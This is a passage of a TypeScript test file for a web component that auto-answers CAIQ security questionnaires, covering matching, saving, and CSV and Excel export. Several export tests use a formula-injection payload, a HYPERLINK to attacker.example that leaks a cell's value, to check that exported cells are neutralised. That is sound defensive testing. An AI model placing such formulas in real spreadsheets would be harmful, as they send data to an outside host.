        expect(low.querySelector<HTMLElement & { label: string }>('lightning-badge')?.label).toBe('Low');
        expect(text(low.querySelector('.answer-text'))).toBe('');
        expect(text(low.querySelector('.review-status'))).toBe('Unanswered');
        expect(text(low.querySelector('.suggestion-note'))).toContain('not filled in');
        expect(one<HTMLElement & { label: string }>(element, '.save-button')?.label).toBe('Save 249 changes');
        expect(toasts.at(-1)?.message).toBe(
          '62 high, 63 medium, 62 low, 62 none. Review the answers, then save.'
        );
      },
      SLOW_TEST_MS
    );

    it('uses the real engine: a question worded like a library entry gets that entry', async () => {
      const element = mount();
      await emit({
        ...workspaceData,
        items: [
          {
            id: 'a0R000000000009AAA',
            key: 'CEK-03.1',
            section: 'Cryptography',
            question: 'Do you encrypt customer data at rest?',
            sortOrder: 1,
            reviewStatus: 'Unanswered'
          }
        ]
      });
      createMatcherMock.mockImplementationOnce(realCreateMatcher);

      click(one(element, '.auto-answer'));
      await waitFor(
        () => one(element, '.match-progress') === null && one(element, 'lightning-badge') !== null,
        'a match'
      );

      const row = rowOf(element, 'CEK-03.1');
      expect(['High', 'Medium', 'Low']).toContain(
        row.querySelector<HTMLElement & { label: string }>('lightning-badge')?.label
      );
      expect(text(row.querySelector('.suggestion-note'))).toContain('Encryption at rest');
    });

    it('says when there is nothing left to auto-answer, and when matching fails', async () => {
      const element = mount();
      const toasts = toastsOf(element);
      await emit({
        ...workspaceData,
        items: workspaceData.items.filter((item) => item.reviewStatus === 'Approved')
      });
      click(one(element, '.auto-answer'));
      await flush();
      expect(toasts[0]?.title).toBe('Nothing to auto-answer');

      createMatcherMock.mockImplementationOnce(() => {
        throw new Error('The library could not be indexed.');
      });
      await emit();
      click(one(element, '.auto-answer'));
      await waitFor(() => one(element, '.match-error') !== null, 'the error');
      const panel = one<HTMLElement & { friendlyMessage: string; errors: unknown }>(element, '.match-error');
      expect(panel?.friendlyMessage).toBe('Auto-answer stopped.');
      expect(one(element, '.match-progress')).toBeNull();
      await expect(element).toBeAccessible();
    });
  });

  describe('save', () => {
    it('saves every change in one call, sending only what changed', async () => {
      saveMock.mockResolvedValue(2);
      const element = mount();
      const toasts = toastsOf(element);
      await emit();
      click(rowOf(element, 'A&A-01.1').querySelector('.accept-button'));
      click(rowOf(element, 'HRS-01.1').querySelector('.route-button'));
      await flush();
      one(element, '.sme-picker')?.dispatchEvent(
        new CustomEvent('change', { detail: { recordId: '005000000000007AAA' } })
      );
      click(one(element, '.confirm-route'));
      await flush();

      click(one(element, '.save-button'));
      await flush();

      expect(saveMock).toHaveBeenCalledTimes(1);
      expect(JSON.parse(saveMock.mock.calls[0]?.[0].updatesJson ?? '[]')).toEqual([
        { id: 'a0R000000000001AAA', reviewStatus: 'Accepted' },
        { id: 'a0R000000000006AAA', reviewStatus: 'Routed to SME', smeId: '005000000000007AAA' }
      ]);
      expect(refreshMock).toHaveBeenCalledTimes(1);
      expect(notifyMock).toHaveBeenCalledWith([{ recordId: RECORD_ID }]);
      expect(one<HTMLElement & { label: string; disabled: boolean }>(element, '.save-button')?.label).toBe(
        'Save'
      );
      expect(rowOf(element, 'A&A-01.1').querySelector('.unsaved')).toBeNull();
      expect(text(rowOf(element, 'A&A-01.1').querySelector('.review-status'))).toBe('Accepted');
      expect(toasts[0]?.message).toBe('2 questions saved.');
    });

    it('keeps the changes and shows why when saving fails', async () => {
      saveMock.mockRejectedValue({
        body: { message: 'Update 1 (a0R000000000001AAA) reviewStatus cannot be empty.' }
      });
      const element = mount();
      await emit();
      click(rowOf(element, 'A&A-01.1').querySelector('.accept-button'));
      await flush();
      click(one(element, '.save-button'));
      await flush();

      const panel = one<HTMLElement & { friendlyMessage: string }>(element, '.save-error');
      expect(panel?.friendlyMessage).toBe("We couldn't save the answers.");
      expect(one<HTMLElement & { label: string }>(element, '.save-button')?.label).toBe('Save 1 change');
      expect(text(rowOf(element, 'A&A-01.1').querySelector('.unsaved'))).toBe('Not saved yet');
      await expect(element).toBeAccessible();
    });
  });

  describe('export', () => {
    it('exports CSV in the buyer order with the buyer keys, formulas neutralised', async () => {
      const downloads = captureDownloads();
      const element = mount();
      await emit({ ...workspaceData, items: [...workspaceData.items].reverse() });

      click(one(element, '.export-csv'));
      await flush();

      expect(downloads).toHaveLength(1);
      const download = downloads[0] as Download;
      expect(download.fileName).toBe('Northwind University CAIQ answers.csv');
      expect(download.blob?.type).toBe('text/csv;charset=utf-8');
      const csv = (await readBlob(download.blob as Blob, 'text')) as string;
      const rows = parseCsv(csv).rows;
      expect(rows[0]).toEqual(['Key', 'Section', 'Question', 'Short answer', 'Answer']);
      expect(rows.slice(1).map((row) => row[0])).toEqual([
        'A&A-01.1',
        'A&A-02.1',
        'CEK-03.1',
        'IAM-14.1',
        'STA-09.1',
        'HRS-01.1'
      ]);
      expect(rows[3]?.[4]).toBe('\'=HYPERLINK("https://attacker.example/?leak="&A1,"Click")');
      expect(rows.flat().every((cell) => !isFormulaLike(cell))).toBe(true);
    });

    it('falls back to a data URL where the browser has no object URLs', async () => {
      const downloads = captureDownloads();
      Object.defineProperty(URL, 'createObjectURL', { configurable: true, writable: true, value: undefined });
      const element = mount();
      await emit();
      click(one(element, '.export-csv'));
      await flush();
      expect(downloads[0]?.href.startsWith('data:text/csv;charset=utf-8;base64,')).toBe(true);
    });

    it('exports Excel through SheetJS, in the buyer order', async () => {
      window.XLSX = XLSX;
      const downloads = captureDownloads();
      const element = mount();
      await emit();

      click(one(element, '.export-xlsx'));
      await waitFor(() => downloads.length === 1, 'the download');

      expect(downloads[0]?.fileName).toBe('Northwind University CAIQ answers.xlsx');
      const bytes = (await readBlob(downloads[0]?.blob as Blob, 'bytes')) as Uint8Array;
      const book = XLSX.read(bytes, { type: 'array' });
      const rows = XLSX.utils.sheet_to_json<string[]>(book.Sheets.Answers as XLSX.WorkSheet, { header: 1 });
      expect(rows.map((row) => row[0])).toEqual([
        'Key',
        'A&A-01.1',
        'A&A-02.1',
        'CEK-03.1',
        'IAM-14.1',
        'STA-09.1',
        'HRS-01.1'
      ]);
      expect(rows[3]?.[4]).toBe('\'=HYPERLINK("https://attacker.example/?leak="&A1,"Click")');
    });

    it('shows why an export failed', async () => {
      loadScript.mockImplementationOnce(() => Promise.reject(new Error('Script failed to load')));
      captureDownloads();
      const element = mount();
      await emit();
      click(one(element, '.export-xlsx'));
      await waitFor(() => one(element, '.export-error') !== null, 'the error');
      expect(one<HTMLElement & { friendlyMessage: string }>(element, '.export-error')?.friendlyMessage).toBe(
        "We couldn't export the answers."
      );
      await expect(element).toBeAccessible();
    });

    it("writes the answers into the buyer's own file, in its own columns", async () => {
      const downloads = captureDownloads();
      const element = mount();
      const toasts = toastsOf(element);
      await emit();
      expect(one<HTMLElement & { disabled: boolean }>(element, '.fill-buyer-file')?.disabled).toBe(true);

      await upload(
        element,
        csvFile('northwind-caiq.csv', [
          ['Question ID', 'Question', 'CSP Answer', 'Notes'],
          [
            'A&A-01.1',
            'Are audit and assurance policies established, documented and reviewed at least annually?',
            '',
            ''
          ],
          ['CEK-03.1', 'Do you encrypt customer data at rest?', '', 'keep'],
          ['ZZZ-99', 'A question we never imported?', '', '']
        ]),
        '.buyer-file-input',
        () =>
          one<HTMLElement & { label: string }>(element, '.fill-buyer-file')?.label ===
          'Fill northwind-caiq.csv'
      );
      const fill = one<HTMLElement & { label: string; disabled: boolean }>(element, '.fill-buyer-file');
      expect(fill?.label).toBe('Fill northwind-caiq.csv');
      expect(fill?.disabled).toBe(false);

      click(fill);
      await waitFor(() => downloads.length === 1, 'the download');

      expect(downloads[0]?.fileName).toBe('northwind-caiq answered.csv');
      const rows = parseCsv((await readBlob(downloads[0]?.blob as Blob, 'text')) as string).rows;
      expect(rows[0]).toEqual(['Question ID', 'Question', 'CSP Answer', 'Notes']);
      expect(rows[1]?.slice(2)).toEqual([
        'Yes',
        'Yes. Our audit policy is approved by the CISO and reviewed every year.'
      ]);
      expect(rows[2]?.slice(2)).toEqual([
        '\'=HYPERLINK("https://attacker.example/?leak="&A1,"Click")',
        'keep'
      ]);
      expect(rows[3]?.[2] ?? '').toBe('');
      expect(toasts.at(-1)).toMatchObject({
        message:
          '2 answers written into northwind-caiq.csv; 1 question left unanswered; 4 answers not found in the file.',
        variant: 'warning'
      });
    });

    it("fills the buyer's workbook after importing it in the same session, keeping its other sheets", async () => {
      window.XLSX = XLSX;
      importMock.mockResolvedValue({ questionnaireId: RECORD_ID, itemCount: 3 });
      const downloads = captureDownloads();
      const element = mount();
      await emit(emptyWorkspace());
      await upload(
        element,
        workbookFile('northwind.xlsx', { Instructions: [['Read me']], 'CAIQv4.0.3': CAIQ_ROWS })
      );
      await waitFor(() => one(element, '.import-button') !== null, 'the preview');
      click(one(element, '.import-button'));
      await flush();
      await emit({
        ...workspaceData,
        items: [
          { ...workspaceData.items[0], key: 'A&A-01.1', sortOrder: 1, answer: '+1 555 0100 for audits' },
          { ...workspaceData.items[1], key: 'A&A-02.1', sortOrder: 2 },
          { ...workspaceData.items[2], key: 'CEK-03.1', sortOrder: 3, answer: 'Yes, AES-256.' }
        ]
      });

      click(one(element, '.fill-buyer-file'));
      await waitFor(() => downloads.length === 1, 'the download');

      expect(downloads[0]?.fileName).toBe('northwind answered.xlsx');
      const book = XLSX.read(await readBlob(downloads[0]?.blob as Blob, 'bytes'), { type: 'array' });
      expect(book.SheetNames).toEqual(['Instructions', 'CAIQv4.0.3']);
      const rows = XLSX.utils.sheet_to_json<string[]>(book.Sheets['CAIQv4.0.3'] as XLSX.WorkSheet, {
        header: 1,
        defval: ''
      });
      expect(rows.map((row) => row[2])).toEqual([
        '',
        'CSP Answer',
        "'+1 555 0100 for audits",
        '',
        'Yes, AES-256.'
      ]);
    });

    it("says when a buyer's file has no columns to write into", async () => {
      const element = mount();
      await emit();
      const vsaq = { questionnaire: [{ type: 'yesno', id: 'q1', text: 'Do you encrypt?' }] };
      await upload(element, new File([JSON.stringify(vsaq)], 'webapp.json'), '.buyer-file-input', () =>
        text(one(element, '.buyer-file-error')).startsWith('webapp.json')
      );
      expect(text(one(element, '.buyer-file-error'))).toBe(
        'webapp.json has no columns to write answers into: use the CSV or XLSX export instead.'
      );
      await upload(
        element,
        new File(['ID,Question\r\n"Q-1,Unclosed'], 'broken.csv'),
        '.buyer-file-input',
        () => text(one(element, '.buyer-file-error')).includes('broken.csv')
      );
      expect(text(one(element, '.buyer-file-error'))).toMatch(/^We couldn't read broken\.csv: /);
      await expect(element).toBeAccessible();
    });
  });
});
